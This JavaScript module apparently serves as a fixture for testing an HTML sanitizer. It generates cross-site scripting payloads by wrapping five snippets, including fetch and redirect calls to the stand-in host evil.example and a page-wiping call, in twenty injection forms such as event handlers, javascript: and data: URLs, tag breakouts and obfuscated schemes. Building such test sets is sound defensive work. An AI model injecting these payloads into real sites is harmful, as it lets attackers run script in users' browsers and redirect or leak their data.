// Texts as an attacker would put them where the vendor's words stand.
const payloads = [
  "window.hit=1",
  "alert(1)",
  "fetch('https://evil.example/x')",
  "document.body.remove()",
  "location='https://evil.example'",
];

const shapes = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}"></svg>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<a href="javascript:${js}">leggi</a>`,
  (js) => `<a href=" java\tscript:${js}">leggi</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">leggi</a>`,
  (js) => `<p onclick="${js}" onmouseover="${js}">testo</p>`,
  (js) => `<form action="https://evil.example"><input autofocus onfocus="${js}"></form>`,
  (js) => `<details open ontoggle="${js}"><summary>x</summary></details>`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<object data="https://evil.example/x.swf"></object><embed src="javascript:${js}">`,
  (js) =>
    `<link rel=stylesheet href="https://evil.example/x.css"><style>@import 'https://evil.example/${js.length}'</style>`,
  (js) => `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<template><script>${js}</script></template><slot onslotchange="${js}"></slot>`,
  (js) => `</p></div></visura-form><script>${js}</script><visura-form>`,
  (js) => `<!--><img src=x onerror="${js}">--><![CDATA[<script>${js}</script>]]>`,
];

export const hostile = payloads.flatMap((js) => shapes.map((shape) => shape(js)));
